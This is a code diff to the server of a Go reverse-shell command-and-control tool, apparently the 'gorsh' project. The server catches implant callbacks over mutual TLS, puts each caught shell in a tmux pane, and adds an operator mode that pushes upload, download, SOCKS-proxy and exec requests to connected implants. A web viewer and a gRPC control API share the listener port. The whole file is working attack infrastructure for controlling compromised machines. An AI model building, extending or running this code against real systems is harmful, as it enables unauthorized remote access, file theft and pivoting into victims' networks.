@@ -3,9 +3,12 @@ package main
 import (
 	"bufio"
 	"crypto/tls"
+	"crypto/x509"
+	"errors"
 	"fmt"
 	"io"
 	"net"
+	"net/http"
 	"os"
 	"path"
 	"path/filepath"
@@ -13,10 +16,15 @@ import (
 	"sync"
 	"time"
 
-	"github.com/disneystreaming/gomux"
+	"github.com/clayne/gorsh/rpcapi"
+	"github.com/clayne/gorsh/session"
+	"github.com/clayne/gorsh/transport"
+	"github.com/clayne/gorsh/web"
 	"github.com/jessevdk/go-flags"
 	"github.com/mattn/go-tty"
 	log "github.com/sirupsen/logrus"
+	"github.com/soheilhy/cmux"
+	"google.golang.org/grpc"
 )
 
 var opts struct {
@@ -24,9 +32,29 @@ var opts struct {
 	Port   string `short:"p" long:"port" description:"Port on which to bind" default:"8443" required:"true"`
 	Keys   string `short:"k" long:"keys" description:"Path to folder with server.{pem,key}" default:"./certs" required:"true"`
 	Socket string `short:"s" long:"socket" description:"Domain socket from which the program reads"`
+	Attach string `short:"a" long:"attach" description:"Send an upload/download/socks/exec request to an already-connected implant by hostname"`
+
+	Web         bool   `long:"web" description:"Serve the browser pane viewer and the gorshctl gRPC API alongside the implant listener on --port, in cleartext over --host (disabled if unset); only the implant channel is mutual-TLS, so bind --host to loopback and reach it over an SSH tunnel or VPN unless you've put TLS in front of it yourself"`
+	WebAuth     string `long:"web-auth" description:"Bearer token / basic-auth password required by --web (disabled if unset)"`
+	WebReadOnly bool   `long:"web-read-only" description:"Don't forward keystrokes from --web viewers into the shell"`
+
+	Args struct {
+		Command string   `positional-arg-name:"command" description:"upload|download|socks|exec, used with --attach"`
+		Params  []string `positional-arg-name:"params"`
+	} `positional-args:"yes"`
 }
 
-var sessions = make(map[string]*gomux.Session)
+// sessionMgr is the single source of truth for every live implant session,
+// shared by the accept loop, the admin socket handlers and the gRPC API.
+var sessionMgr = session.NewManager()
+
+// webServer is non-nil when --web was given, letting proxyConnToSocket tee
+// pane output to any connected browser viewers and the gRPC Tail RPC.
+var webServer *web.Server
+
+// heartbeatInterval is how often a registered implant mux sends a keepalive
+// ping down its dedicated ping stream.
+const heartbeatInterval = 15 * time.Second
 
 func init() {
 	_, err := flags.Parse(&opts)
@@ -55,34 +83,109 @@ func init() {
 }
 
 func main() {
-	var listener net.Listener
-	var err error
+	if opts.Attach != "" {
+		// Operator mode: reach into an already-established implant mux
+		// (this process didn't accept the TLS callback, the long-running
+		// shell-catching one did) via its admin socket.
+		req := transport.StreamRequest{Kind: transport.StreamKind(opts.Args.Command), Args: opts.Args.Params}
+		if err := requestAdmin(opts.Attach, req); err != nil {
+			log.Fatal(err)
+		}
+		return
+	}
 
 	if opts.Socket == "" {
-		// Shell-catching mode. TLS -> TMUX -> Shell
-		// Once the shell is caught over TLS, it's unwrapped and sent
-		// to a local socket, where it will later be read by a new instance
-		// of the server configured to read that socket from within a tmux pane
-		listener, err = newTLSListener()
+		// Shell-catching mode. TCP -> cmux -> (TLS -> yamux -> TMUX -> Shell
+		// | HTTP -> web viewer | HTTP/2 -> gorshctl gRPC API), all on the
+		// same --port. Once an implant's control stream is unwrapped it's
+		// sent to a local socket, where it will later be read by a new
+		// instance of the server configured to read that socket from
+		// within a tmux pane. Extra streams (upload, download, socks, exec)
+		// are opened on demand over the same mux.
+		raw, err := inheritedListener()
+		if err != nil {
+			log.WithError(err).Warn("failed to reattach inherited listener, binding fresh")
+		}
+		if raw == nil {
+			raw, err = newRawListener()
+			if err != nil {
+				log.Fatal(err)
+			}
+		}
+
+		mux, err := newMultiplexer(raw)
 		if err != nil {
 			log.Fatal(err)
 		}
+
 		log.WithFields(log.Fields{"port": opts.Port, "host": opts.Iface}).Info("Listener started")
+		installSignalHandlers(raw)
+
+		if opts.Web {
+			// Only mux.implant is wrapped in tls.NewListener (the mutual-TLS
+			// implant auth from chunk0-3); mux.web and mux.grpc are plain
+			// HTTP/HTTP2, so --web-auth's bearer token and every keystroke,
+			// upload and download go out in cleartext. --host should stay
+			// loopback-only, with a tunnel or VPN in front of it for remote
+			// operators, unless TLS has been terminated in front of --port.
+			if ip := net.ParseIP(opts.Iface); ip == nil || !ip.IsLoopback() {
+				log.WithField("host", opts.Iface).
+					Warn("--web serves the gRPC control API and viewer in cleartext; binding --host off loopback exposes tokens, keystrokes and file transfers to anyone on that network")
+			}
 
-		for {
-			conn, err := listener.Accept()
+			webServer = web.NewServer(sessionLister{}, opts.WebAuth, opts.WebReadOnly)
+			webHandler, err := webServer.Handler()
 			if err != nil {
-				log.Error(err)
-				continue
+				log.Fatal(err)
 			}
+			go func() {
+				if err := http.Serve(mux.web, webHandler); err != nil {
+					log.WithError(err).Error("web listener stopped")
+				}
+			}()
+
+			grpcServer := grpc.NewServer(
+				rpcapi.ServerOption(),
+				grpc.ChainUnaryInterceptor(grpcAuthUnary),
+				grpc.ChainStreamInterceptor(grpcAuthStream),
+			)
+			rpcapi.RegisterGorshServer(grpcServer, gorshRPC{})
+			go func() {
+				if err := grpcServer.Serve(mux.grpc); err != nil {
+					log.WithError(err).Error("grpc listener stopped")
+				}
+			}()
+		}
 
-			sockF, err := prepareTmux(conn)
+		go func() {
+			if err := mux.m.Serve(); err != nil {
+				log.WithError(err).Warn("multiplexer stopped")
+			}
+		}()
+
+		for {
+			conn, err := mux.implant.Accept()
 			if err != nil {
+				if errors.Is(err, cmux.ErrListenerClosed) || errors.Is(err, cmux.ErrServerClosed) {
+					// Returning from main ends the process, so wait out the
+					// in-flight implants first, the same as gracefulDrain.
+					log.Info("implant listener closed, waiting for active shells")
+					drainWG.Wait()
+					return
+				}
 				log.Error(err)
 				continue
 			}
-			time.Sleep(1 * time.Second) // Give socket time to establish
-			go proxyConnToSocket(conn, sockF)
+
+			// Counted here, synchronously with Accept, rather than inside
+			// handleImplant: gracefulDrain's Wait() must never be able to
+			// observe a zero count while a just-accepted connection hasn't
+			// reached its own Add(1) yet.
+			drainWG.Add(1)
+			go func(conn net.Conn) {
+				defer drainWG.Done()
+				handleImplant(conn)
+			}(conn)
 		}
 
 	} else {
@@ -92,7 +195,7 @@ func main() {
 		// If in this branch, binary was started from within tmux.
 		// Once the tcp and sockets are mutually proxied with
 		// `proxyConnToSocket`, the shell will start
-		listener, err = net.Listen("unix", opts.Socket)
+		listener, err := net.Listen("unix", opts.Socket)
 		if err != nil {
 			log.Fatal(err)
 		}
@@ -107,17 +210,67 @@ func main() {
 	}
 }
 
-func newTLSListener() (net.Listener, error) {
+func tlsConfig() (*tls.Config, error) {
 	pem := path.Join(opts.Keys, "server.pem")
 	key := path.Join(opts.Keys, "server.key")
 	cer, err := tls.LoadX509KeyPair(pem, key)
 	if err != nil {
-		log.Fatal(err)
+		return nil, err
+	}
+
+	caPEM, err := os.ReadFile(path.Join(opts.Keys, "ca.pem"))
+	if err != nil {
+		return nil, fmt.Errorf("read ca.pem: %w", err)
+	}
+	caPool := x509.NewCertPool()
+	if !caPool.AppendCertsFromPEM(caPEM) {
+		return nil, fmt.Errorf("no certificates found in ca.pem")
 	}
 
-	config := &tls.Config{Certificates: []tls.Certificate{cer}}
+	return &tls.Config{
+		Certificates:          []tls.Certificate{cer},
+		ClientAuth:            tls.RequireAndVerifyClientCert,
+		ClientCAs:             caPool,
+		VerifyPeerCertificate: verifyImplantCert,
+	}, nil
+}
+
+// newRawListener binds the plain TCP listener that newMultiplexer then
+// splits by protocol.
+func newRawListener() (net.Listener, error) {
 	connStr := fmt.Sprintf("%s:%s", opts.Iface, opts.Port)
-	return tls.Listen("tcp", connStr, config)
+	tcp, err := net.Listen("tcp", connStr)
+	if err != nil {
+		return nil, err
+	}
+	boundTCPListener = tcp.(*net.TCPListener)
+	return tcp, nil
+}
+
+// multiplexer is raw's three protocol-sniffed children: implant traffic
+// speaks mutual-TLS, the web viewer and gorshctl's gRPC API speak plain
+// HTTP/1.1 and HTTP/2 respectively. All three share opts.Port via cmux
+// instead of each wanting their own listener.
+type multiplexer struct {
+	m       cmux.CMux
+	implant net.Listener
+	web     net.Listener
+	grpc    net.Listener
+}
+
+func newMultiplexer(raw net.Listener) (*multiplexer, error) {
+	config, err := tlsConfig()
+	if err != nil {
+		return nil, err
+	}
+
+	m := cmux.New(raw)
+	return &multiplexer{
+		m:       m,
+		implant: tls.NewListener(m.Match(cmux.TLS()), config),
+		web:     m.Match(cmux.HTTP1Fast()),
+		grpc:    m.Match(cmux.HTTP2()),
+	}, nil
 }
 
 func startShell(conn net.Conn) {
@@ -178,50 +331,88 @@ func genTempFilename(username string) (string, error) {
 	return path, nil
 }
 
-func prepareTmux(conn net.Conn) (string, error) {
-	hostname, username, err := implantInfo(conn)
+// handleImplant takes a freshly accepted implant TLS connection, wraps it in
+// a yamux mux, and dispatches its initial stream request. It's run in its
+// own goroutine per connection so a slow handshake can't stall Accept.
+//
+// The caller holds drainWG for the whole call, not just the eventual
+// proxyConnToSocket: a graceful drain (SIGTERM/SIGINT/SIGHUP) must not
+// declare victory and exit while a connection is still mid-handshake or
+// mid-prepareTmux, only to have that shell killed out from under the
+// implant a moment later.
+func handleImplant(conn net.Conn) {
+	label, ok := implantLabel(conn)
+	if !ok {
+		conn.Close()
+		return
+	}
+
+	tSess, err := transport.Open(conn)
 	if err != nil {
-		return "", fmt.Errorf("failed getting implant info: %w", err)
+		log.WithError(err).Error("yamux handshake failed")
+		conn.Close()
+		return
 	}
 
-	exists, err := gomux.CheckSessionExists(hostname)
+	_, username, err := implantInfo(tSess.Control)
 	if err != nil {
-		return "", err
+		log.WithError(err).Error("failed getting implant info")
+		tSess.Mux.Close()
+		return
 	}
+	// implantLabel only ever returns ok=true with a non-empty label, so the
+	// allowlist label always wins over whatever hostname the implant
+	// self-reports on the wire.
+	hostname := sanitizeforTmux(label)
 
-	// not yet seen host
-	if !exists {
-		log.WithField("host", hostname).Info("new host connected, creating session")
-		sessions[hostname], err = gomux.NewSession(hostname)
-		if err != nil {
-			log.Warn(err)
-		}
+	req, err := transport.ReadRequest(tSess.Control)
+	if err != nil {
+		log.WithError(err).Error("failed reading initial stream request")
+		tSess.Mux.Close()
+		return
+	}
+
+	info, err := sessionMgr.Register(hostname, tSess)
+	if err != nil {
+		log.WithError(err).Error("failed registering session")
+		tSess.Mux.Close()
+		return
 	}
+	go tSess.Heartbeat(heartbeatInterval)
+	go serveAdmin(hostname, info)
 
-	// session in tmux, but not tracked with server yet
-	if exists && sessions[hostname] == nil {
-		log.WithField("host", hostname).Debug("creating new cached session")
-		sessions[hostname] = &gomux.Session{Name: hostname}
+	switch req.Kind {
+	case transport.KindShell, "":
+		sockF, window, err := prepareTmux(info, username)
+		if err != nil {
+			log.Error(err)
+			return
+		}
+		time.Sleep(1 * time.Second) // Give socket time to establish
+		proxyConnToSocket(tSess.Control, sockF, hostname, window)
+	default:
+		log.WithField("kind", req.Kind).Warn("unexpected initial stream kind")
 	}
+}
 
-	session := sessions[hostname]
-	id := fmt.Sprintf("%s.%d", username, session.NextWindowNumber+1)
-	window, err := session.AddWindow(id)
+func prepareTmux(info *session.Info, username string) (sockPath, windowID string, err error) {
+	id := fmt.Sprintf("%s.%d", username, info.NextWindowNumber+1)
+	window, err := info.AddWindow(id)
 	if err != nil {
 		log.WithFields(
-			log.Fields{"session": session.Name, "window": window},
+			log.Fields{"session": info.Name, "window": window},
 		).Warn("AddWindow(Id) ", err)
 	}
 
 	path, err := genTempFilename(username)
 	if err != nil {
-		return "", err
+		return "", "", err
 	}
 
 	err = window.Panes[0].Exec(`echo -e '\a'`) // ring a bell
 	if err != nil {
 		log.WithFields(
-			log.Fields{"session": session.Name, "window": id, "path": path},
+			log.Fields{"session": info.Name, "window": id, "path": path},
 		).Warn("Exec echo: ", err)
 	}
 
@@ -231,16 +422,18 @@ func prepareTmux(conn net.Conn) (string, error) {
 	err = window.Panes[0].Exec(cmd)
 	if err != nil {
 		log.WithFields(
-			log.Fields{"session": session.Name, "window": id, "cmd": cmd},
+			log.Fields{"session": info.Name, "window": id, "cmd": cmd},
 		).Warn("Exec cmd: ", err)
 	}
 
-	log.WithFields(log.Fields{"session": session.Name, "window": username}).
+	sessionMgr.RecordWindow(info.Name, username, path, id)
+
+	log.WithFields(log.Fields{"session": info.Name, "window": username}).
 		Info("new shell in tmux")
-	return path, nil
+	return path, id, nil
 }
 
-func proxyConnToSocket(conn net.Conn, sockF string) {
+func proxyConnToSocket(conn net.Conn, sockF string, hostname, window string) {
 	socket, err := net.Dial("unix", sockF)
 	if err != nil {
 		log.WithField("err", err).Error("failed to dial sockF")
@@ -251,20 +444,33 @@ func proxyConnToSocket(conn net.Conn, sockF string) {
 
 	wg := sync.WaitGroup{}
 
+	// Writes toward the implant are shared between the tmux operator
+	// (below) and any --web viewer in read-write mode, so they go
+	// through a single mutex-guarded writer.
+	writer := &syncWriter{w: conn}
+	if webServer != nil {
+		webServer.RegisterWriter(hostname, window, writer)
+		defer webServer.UnregisterWriter(hostname, window)
+	}
+
 	// forward socket to tcp
 	wg.Add(1)
 	go (func(socket net.Conn, conn net.Conn) {
 		defer conn.Close()
 		defer wg.Done()
-		io.Copy(conn, socket)
+		io.Copy(writer, socket)
 	})(socket, conn)
 
-	// forward tcp to socket
+	// forward tcp to socket, teeing pane output to any --web viewers
 	wg.Add(1)
 	go (func(socket net.Conn, conn net.Conn) {
 		defer socket.Close()
 		defer wg.Done()
-		io.Copy(socket, conn)
+		var src io.Reader = conn
+		if webServer != nil {
+			src = io.TeeReader(conn, paneWriter{hostname: hostname, window: window})
+		}
+		io.Copy(socket, src)
 	})(socket, conn)
 
 	// keep from returning until sockets close so we
@@ -272,6 +478,30 @@ func proxyConnToSocket(conn net.Conn, sockF string) {
 	wg.Wait()
 }
 
+// syncWriter serializes writes to w so the tmux operator and a --web
+// viewer's keystrokes can't interleave mid-write.
+type syncWriter struct {
+	mu sync.Mutex
+	w  io.Writer
+}
+
+func (s *syncWriter) Write(p []byte) (int, error) {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	return s.w.Write(p)
+}
+
+// paneWriter adapts Server.Publish to an io.Writer so it can sit on the end
+// of an io.TeeReader.
+type paneWriter struct {
+	hostname, window string
+}
+
+func (p paneWriter) Write(b []byte) (int, error) {
+	webServer.Publish(p.hostname, p.window, b)
+	return len(b), nil
+}
+
 func sanitizeforTmux(in string) (data string) {
 	// tmux session names can't contain ".", "\", " "
 	// windows gets usernames by [domain|computer]\\user.